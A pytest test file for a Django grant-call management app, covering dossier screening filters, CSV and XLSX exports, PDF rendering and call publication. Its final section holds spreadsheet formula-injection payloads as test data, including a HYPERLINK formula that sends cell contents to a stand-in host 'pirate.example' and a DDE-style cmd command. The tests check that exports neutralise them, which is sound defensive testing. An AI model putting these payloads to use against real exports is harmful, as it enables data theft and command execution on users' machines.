"""The programme managers' side: screening filters, exports, the dossier PDF, and
the call's own form with its selection grid."""

import csv
import html
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from projects.models import DEFAULT_REQUIRED_QUESTIONS, Call, DossierStatus, SelectionCriterion
from projects.services import DEFAULT_GRID, RUBRIC
from tests.ais.factories import CommuneFactory, DepartmentFactory, OrganisationFactory
from tests.projects.factories import CallFactory, DossierAttachmentFactory, DossierFactory

PARIS = ZoneInfo("Europe/Paris")
COLUMNS = 17


@pytest.fixture
def call(db):
    return CallFactory(title="Appel 2025 – emploi des DELD")


@pytest.fixture
def dossiers(call):
    """Three dossiers of the call (one of each kind of answer) and one of another call."""
    paris = CommuneFactory(code="75056", name="Paris", department=DepartmentFactory(code="75", name="Paris"))
    rural = DossierFactory(
        submitted=True,
        call=call,
        organisation=OrganisationFactory(name="Réseau Solidaire Normand"),
        innovation_name="Parcours Emploi Rural",
        summary="Des immersions en entreprise près de chez soi.",
        origin_commune=CommuneFactory(),  # Rouen, Seine-Maritime
        publics=["deld"],
        keywords=["coaching"],
        people_accompanied=80,
        exits_to_employment=40,
    )
    DossierAttachmentFactory(dossier=rural)
    DossierAttachmentFactory(dossier=rural)
    digital = DossierFactory(
        complete=True,
        status=DossierStatus.ELIGIBLE,
        call=call,
        organisation=OrganisationFactory(name="Association Lumière"),
        innovation_name="Atelier Numérique",
        summary="Des ateliers pour reprendre confiance.",
        origin_commune=paris,
        publics=["rsa", "qpv"],
        keywords=["chantier"],
    )
    garden = DossierFactory(
        call=call,
        organisation=OrganisationFactory(name="Les Jardins"),
        innovation_name="Jardin d'insertion",
        summary="Maraîchage.",
    )
    elsewhere = DossierFactory(
        submitted=True,
        innovation_name="Emploi d'un autre appel",
        organisation=OrganisationFactory(name="Réseau Ailleurs"),
    )
    return {"rural": rural, "digital": digital, "garden": garden, "elsewhere": elsewhere}


def _screened(client, call, **params):
    response = client.get(reverse("projects:screening", args=[call.pk]), params)
    assert response.status_code == 200
    return response, sorted(d.innovation_name for d in response.context["dossiers"])


# Filters -----------------------------------------------------------------------------


def test_screening_without_filter_lists_the_call_dossiers_only(manager_client, call, dossiers):
    response, names = _screened(manager_client, call)

    assert names == ["Atelier Numérique", "Jardin d'insertion", "Parcours Emploi Rural"]
    text = html.unescape(response.content.decode())
    assert "Emploi d'un autre appel" not in text
    assert "Réseau Solidaire Normand" in text


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "submitted"}, ["Parcours Emploi Rural"]),
        ({"status": "eligible"}, ["Atelier Numérique"]),
        ({"status": "draft"}, ["Jardin d'insertion"]),
        ({"status": "ineligible"}, []),
        ({"department": "76"}, ["Parcours Emploi Rural"]),
        ({"department": "75"}, ["Atelier Numérique"]),
        ({"public": "deld"}, ["Parcours Emploi Rural"]),
        ({"public": "qpv"}, ["Atelier Numérique"]),
        ({"keyword": "chantier"}, ["Atelier Numérique"]),
        ({"keyword": "coaching"}, ["Parcours Emploi Rural"]),
        ({"q": "emploi"}, ["Parcours Emploi Rural"]),
        ({"q": "EMPLOI"}, ["Parcours Emploi Rural"]),
        ({"q": "reseau"}, ["Parcours Emploi Rural"]),
        ({"q": "lumiere"}, ["Atelier Numérique"]),
        ({"q": "numerique"}, ["Atelier Numérique"]),
        ({"q": "confiance"}, ["Atelier Numérique"]),  # in the summary
        ({"q": "  "}, ["Atelier Numérique", "Jardin d'insertion", "Parcours Emploi Rural"]),
        ({"q": "reseau", "status": "eligible"}, []),
        ({"public": "rsa", "department": "75", "status": "eligible"}, ["Atelier Numérique"]),
    ],
)
def test_screening_filter_keeps_matching_dossiers(manager_client, call, dossiers, params, expected):
    _response, names = _screened(manager_client, call, **params)

    assert names == expected


def test_screening_status_counts_cover_the_whole_call(manager_client, call, dossiers):
    response, _names = _screened(manager_client, call, status="draft")

    counts = {value: count for value, _label, count in response.context["status_counts"]}
    assert counts == {"draft": 1, "submitted": 1, "corrections": 0, "eligible": 1, "ineligible": 0}


def test_screening_export_links_carry_the_filters(manager_client, call, dossiers):
    response, _names = _screened(manager_client, call, status="submitted", q="reseau")

    text = html.unescape(response.content.decode())
    assert f"{reverse('projects:screening_export', args=[call.pk, 'csv'])}?status=submitted&q=reseau" in text
    assert f"{reverse('projects:screening_export', args=[call.pk, 'xlsx'])}?status=submitted&q=reseau" in text


def test_screening_with_no_match_says_so(manager_client, call, dossiers):
    response, names = _screened(manager_client, call, q="introuvable")

    assert names == []
    assert "Parcours Emploi Rural" not in html.unescape(response.content.decode())


# Exports -----------------------------------------------------------------------------


def _csv(client, call, **params):
    response = client.get(reverse("projects:screening_export", args=[call.pk, "csv"]), params)
    assert response.status_code == 200
    return response, list(csv.reader(io.StringIO(response.content.decode("utf-8")), delimiter=";"))


def test_csv_export_has_bom_semicolons_and_filtered_rows(manager_client, call, dossiers):
    response, rows = _csv(manager_client, call, status="submitted")

    assert response.content.startswith("\ufeff".encode())
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="dossiers-{call.slug}.csv"'
    header, *body = rows
    assert header[0].startswith("\ufeff")
    assert len(header) == COLUMNS
    rural = dossiers["rural"]
    assert body == [
        [
            str(rural.pk),
            "Réseau Solidaire Normand",
            "Parcours Emploi Rural",
            str(rural.get_status_display()),
            timezone.localtime(rural.submitted_at).strftime("%d/%m/%Y %H:%M"),
            "Rouen",
            "Seine-Maritime",
            str(rural.publics_display[0]),
            str(rural.keywords_display[0]),
            "2018",
            "80",
            "40",
            "50",
            "70",
            "2023-2024",
            str(rural.get_formalisation_level_display()),
            "2",
        ]
    ]


def test_csv_export_search_ignores_accents(manager_client, call, dossiers):
    _response, rows = _csv(manager_client, call, q="reseau")

    assert [row[1] for row in rows[1:]] == ["Réseau Solidaire Normand"]


def test_csv_export_without_filter_has_a_row_per_dossier_of_the_call(manager_client, call, dossiers):
    _response, rows = _csv(manager_client, call)

    assert sorted(row[2] for row in rows[1:]) == ["Atelier Numérique", "Jardin d'insertion", "Parcours Emploi Rural"]
    garden = next(row for row in rows[1:] if row[2] == "Jardin d'insertion")
    assert garden[4:7] == ["", "", ""]  # not submitted, no commune
    assert garden[12] == ""  # no exit rate without figures


def test_xlsx_export_has_same_columns_and_filtered_rows(manager_client, call, dossiers):
    _response, csv_rows = _csv(manager_client, call, department="75")

    response = manager_client.get(reverse("projects:screening_export", args=[call.pk, "xlsx"]), {"department": "75"})

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="dossiers-{call.slug}.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    rows = [[cell if cell is not None else "" for cell in row] for row in sheet.iter_rows(values_only=True)]
    header, *body = rows
    assert header == [csv_rows[0][0].lstrip("\ufeff"), *csv_rows[0][1:]]
    assert len(body) == 1
    assert body[0][0] == dossiers["digital"].pk
    assert body[0][1:3] == ["Association Lumière", "Atelier Numérique"]
    assert body[0][5:7] == ["Paris", "Paris"]
    assert [str(v) for v in body[0]] == csv_rows[1]
    assert workbook.properties.title == call.title
    assert sheet.freeze_panes == "A2"


def test_export_in_an_unknown_format_is_404(manager_client, call):
    response = manager_client.get(reverse("projects:screening_export", args=[call.pk, "pdf"]))

    assert response.status_code == 404


# The dossier as PDF ------------------------------------------------------------------


def test_dossier_pdf_renders_with_innovation_name(manager_client, dossiers):
    rural = dossiers["rural"]

    response = manager_client.get(reverse("projects:dossier_pdf", args=[rural.pk]))

    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="dossier-{rural.pk}-{rural.call.slug}.pdf"'
    reader = PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Parcours Emploi Rural" in text
    assert "Dossier" in text
    assert "Réseau Solidaire Normand" in text
    assert "rapport-evaluation.pdf" in text  # the attachments are listed


# Calls: creation, grid, publication ---------------------------------------------------


def _call_form_data(**overrides):
    data = {
        "title": "Appel à projets 2030",
        "year": 2030,
        "theme": "Mobilité et emploi",
        "description": "Le programme cherche des innovations.",
        "eligibility": "Structures de l'ESS.",
        "opens_at": "2030-01-10T09:00",
        "closes_at": "2030-03-10T12:00",
        "required_questions": DEFAULT_REQUIRED_QUESTIONS,
        "reminder_days": 7,
    }
    return {**data, **overrides}


def test_call_create_gives_the_default_grid_of_six_criteria(manager_client, db):
    response = manager_client.post(reverse("projects:call_create"), _call_form_data())

    call = Call.objects.get()
    assert response["Location"] == reverse("projects:call_edit", args=[call.pk])
    assert (call.slug, call.published_at) == ("appel-a-projets-2030-2030", None)
    assert call.opens_at == datetime(2030, 1, 10, 9, 0, tzinfo=PARIS)
    assert call.closes_at == datetime(2030, 3, 10, 12, 0, tzinfo=PARIS)
    assert call.required_questions == DEFAULT_REQUIRED_QUESTIONS
    criteria = list(call.criteria.all())
    assert len(criteria) == 6
    assert [c.title for c in criteria] == [str(title) for title, _description, _weight in DEFAULT_GRID]
    assert [c.position for c in criteria] == [1, 2, 3, 4, 5, 6]
    assert all(c.rubric == [str(line) for line in RUBRIC] for c in criteria)


def test_call_create_twice_with_same_title_gets_distinct_slugs(manager_client, db):
    manager_client.post(reverse("projects:call_create"), _call_form_data())
    manager_client.post(reverse("projects:call_create"), _call_form_data())

    assert sorted(Call.objects.values_list("slug", flat=True)) == [
        "appel-a-projets-2030-2030",
        "appel-a-projets-2030-2030-2",
    ]
    assert SelectionCriterion.objects.count() == 12


def test_call_create_closing_before_opening_is_refused(manager_client, db):
    response = manager_client.post(
        reverse("projects:call_create"), _call_form_data(closes_at="2030-01-01T09:00", title="Appel à l'envers")
    )

    assert response.status_code == 400
    assert list(response.context["form"].errors) == ["closes_at"]
    assert "Appel à l'envers" in html.unescape(response.content.decode())  # typed values kept
    assert not Call.objects.exists()


def _edit_data(client, call, change=None):
    """The call edit page's form and criteria formset as the browser would post them."""
    page = client.get(reverse("projects:call_edit", args=[call.pk]))
    data = {}
    for form in [page.context["form"], *page.context["formset"].forms]:
        for name in form.fields:
            value = form[name].value()
            key = form.add_prefix(name)
            if isinstance(value, datetime):  # naive, in Paris time, as the widget shows it
                value = (timezone.localtime(value) if timezone.is_aware(value) else value).strftime("%Y-%m-%dT%H:%M")
            elif isinstance(value, list | tuple):
                value = [getattr(v, "pk", v) for v in value]
            elif hasattr(value, "pk"):
                value = value.pk
            if value is None or value is False:
                continue
            data[key] = value
    management = page.context["formset"].management_form
    for name in management.fields:
        data[management.add_prefix(name)] = management[name].value()
    data.update(change or {})
    return data


def test_call_edit_page_shows_the_six_criteria_with_their_rubric(manager_client, call):
    response = manager_client.get(reverse("projects:call_edit", args=[call.pk]))

    formset = response.context["formset"]
    assert len(formset.initial_forms) == 6
    assert formset.forms[0]["rubric_text"].value() == "\n".join(str(line) for line in RUBRIC)
    assert str(DEFAULT_GRID[0][0]) in html.unescape(response.content.decode())


def test_call_edit_rubric_of_five_lines_is_refused_and_nothing_saved(manager_client, call):
    first = call.criteria.first()
    data = _edit_data(
        manager_client,
        call,
        {"call-title": "Titre changé", "criteria-0-rubric_text": "0\n1\n2\n3\n4", "criteria-0-title": "Autre titre"},
    )

    response = manager_client.post(reverse("projects:call_edit", args=[call.pk]), data)

    assert response.status_code == 400
    errors = response.context["formset"].forms[0].errors
    assert list(errors) == ["rubric_text"]
    assert "5" in errors["rubric_text"][0]
    first.refresh_from_db()
    call.refresh_from_db()
    assert (first.title, len(first.rubric), call.title) == (str(DEFAULT_GRID[0][0]), 6, "Appel 2025 – emploi des DELD")


def test_call_edit_rubric_of_seven_lines_is_refused(manager_client, call):
    data = _edit_data(manager_client, call, {"criteria-2-rubric_text": "\n".join(str(n) for n in range(7))})

    response = manager_client.post(reverse("projects:call_edit", args=[call.pk]), data)

    assert response.status_code == 400
    assert list(response.context["formset"].forms[2].errors) == ["rubric_text"]


def test_call_edit_rubric_of_six_lines_or_empty_is_saved(manager_client, call):
    opens_at, closes_at = (d.replace(second=0, microsecond=0) for d in (call.opens_at, call.closes_at))
    six = ["Rien", "Très peu", "Peu", "Assez", "Bien", "Très bien"]
    data = _edit_data(
        manager_client,
        call,
        {
            "call-title": "Appel 2025 modifié",
            "criteria-0-rubric_text": "\n".join(six) + "\n\n",
            "criteria-0-weight": "3",
            "criteria-1-rubric_text": "",
        },
    )

    response = manager_client.post(reverse("projects:call_edit", args=[call.pk]), data)

    assert response["Location"] == reverse("projects:call_edit", args=[call.pk])
    first, second, *_others = call.criteria.all()
    assert (first.rubric, str(first.weight)) == (six, "3.0")
    assert second.rubric == []
    call.refresh_from_db()
    assert (call.title, call.criteria.count()) == ("Appel 2025 modifié", 6)
    assert (call.opens_at, call.closes_at) == (opens_at, closes_at)  # dates survive the round trip


def test_call_edit_adds_a_criterion_in_the_extra_form(manager_client, call):
    data = _edit_data(
        manager_client,
        call,
        {"criteria-6-title": "Ancrage partenarial", "criteria-6-position": 7, "criteria-6-weight": "1"},
    )

    manager_client.post(reverse("projects:call_edit", args=[call.pk]), data)

    assert call.criteria.count() == 7
    assert call.criteria.last().title == "Ancrage partenarial"


def test_call_edit_deleting_every_criterion_is_refused(manager_client, call):
    data = _edit_data(manager_client, call, {f"criteria-{i}-DELETE": "on" for i in range(6)})

    response = manager_client.post(reverse("projects:call_edit", args=[call.pk]), data)

    assert response.status_code == 400
    assert response.context["formset"].non_form_errors()
    assert call.criteria.count() == 6


def test_publish_a_call_whose_closing_is_past_is_refused(manager_client, db):
    call = CallFactory(draft=True, closed=True, title="Appel oublié")

    response = manager_client.post(reverse("projects:call_publish", args=[call.pk]), follow=True)

    call.refresh_from_db()
    assert call.published_at is None
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    assert "Appel oublié" not in html.unescape(manager_client.get(reverse("projects:call_list")).content.decode())


def test_publish_a_call_without_grid_is_refused(manager_client, db):
    call = CallFactory(draft=True, grid=False)

    manager_client.post(reverse("projects:call_publish", args=[call.pk]))

    call.refresh_from_db()
    assert call.published_at is None


def test_publish_a_call_with_grid_and_future_closing_makes_it_public(manager_client, db):
    call = CallFactory(draft=True, title="Appel à publier")

    response = manager_client.post(reverse("projects:call_publish", args=[call.pk]), follow=True)

    call.refresh_from_db()
    assert call.published_at is not None
    assert [m.level_tag for m in response.context["messages"]] == ["success"]
    assert "Appel à publier" in html.unescape(manager_client.get(reverse("projects:call_list")).content.decode())


def test_publish_an_already_published_call_keeps_its_date(manager_client, call):
    published_at = call.published_at

    manager_client.post(reverse("projects:call_publish", args=[call.pk]))

    call.refresh_from_db()
    assert call.published_at == published_at


# Exports never turn typed text into a formula ----------------------------------------

FORMULA = '=HYPERLINK("https://pirate.example/?d="&A1,"Voir")'


@pytest.fixture
def hostile(call):
    return DossierFactory(
        submitted=True,
        call=call,
        innovation_name=FORMULA,
        organisation=OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0"),
        results_period="-2+3",
    )


def test_csv_export_neutralises_formulas_typed_by_carriers(manager_client, call, hostile):
    _response, rows = _csv(manager_client, call)

    row = rows[1]
    assert row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[2] == "'" + FORMULA
    assert row[14] == "'-2+3"
    assert row[0] == str(hostile.pk)  # numbers are left alone


def test_xlsx_export_stores_formulas_typed_by_carriers_as_text(manager_client, call, hostile):
    response = manager_client.get(reverse("projects:screening_export", args=[call.pk, "xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    innovation, organisation, period = sheet["C2"], sheet["B2"], sheet["O2"]
    assert (innovation.value, innovation.data_type) == (FORMULA, "s")
    assert (organisation.data_type, period.data_type) == ("s", "s")
    assert (sheet["A2"].value, sheet["A2"].data_type) == (hostile.pk, "n")
